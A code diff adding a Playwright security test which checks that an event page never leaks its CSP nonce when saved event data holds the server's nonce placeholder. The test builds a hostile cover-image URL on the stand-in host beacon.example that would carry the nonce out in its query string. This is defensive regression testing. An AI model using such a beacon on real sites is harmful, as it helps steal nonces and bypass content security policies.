@@ -4,7 +4,8 @@ import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { expect, test, type APIResponse, type Browser, type Page } from '@playwright/test';
 import { CspWatch, type CspViolation } from '../support/csp';
-import { apiOrigin, publicApi } from '../support/hub-api';
+import { cancelQuietly, createEvent } from '../support/events';
+import { apiOrigin, publicApi, uniqueName } from '../support/hub-api';
 import { loginAs } from '../support/login';
 import { main, mainNav } from '../support/site';
 import { appDir, appOrigin, repoRoot, siteOrigin } from '../support/stack';
@@ -273,6 +274,36 @@ test('the host page, a host chunk, a remote entry and chunk, and remotes.json ca
     // The answer depends on the origin and the encoding: a cache must key on both.
     expect(answer.headers()['vary'], file).toBe('Origin, Accept-Encoding');
     console.log(`remote ${file} headers:\n${JSON.stringify(answer.headers(), null, 2)}`);
+  }
+});
+
+test("a page's data cannot take the page's nonce out: the nonce is only in the policy and the nonce attributes (issue 23)", async ({
+  request,
+}) => {
+  const placeholder = '__HUB_CSP_NONCE__';
+  // A lead saves an event whose title and cover address hold the servers' placeholder (a beacon on
+  // any https host would receive what the server wrote there: img-src allows https:).
+  const event = await createEvent({
+    title: uniqueName(`Beacon ${placeholder}`),
+    imageUrl: `https://beacon.example/cover.png?n=${placeholder}`,
+    locations: [{ cityName: 'Amsterdam', address: 'Herengracht 1', online: 'No' }],
+  });
+  try {
+    // Served by the page server: the event's page drawn from its data.
+    const answer = await request.get(`/events/${event.id}`);
+    expect(answer.status()).toBe(200);
+    const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy']!)![1]!;
+    const html = await answer.text();
+    expect(html, 'the page is drawn from the event').toContain('data-first-frame="events:eventDetail"');
+    // Every nonce in the page is a nonce attribute (or the style renderer's meta): none in the data.
+    expect(html).toContain(`nonce="${nonce}"`);
+    expect(
+      html.replaceAll(`nonce="${nonce}"`, '').replaceAll(`<meta name="csp-nonce" content="${nonce}"`, ''),
+    ).not.toContain(nonce);
+    // What the page shows is the text the lead saved.
+    expect(html).toContain(event.title.replace(placeholder, `&#95;${placeholder.slice(1)}`));
+  } finally {
+    await cancelQuietly(event.id);
   }
 });
 
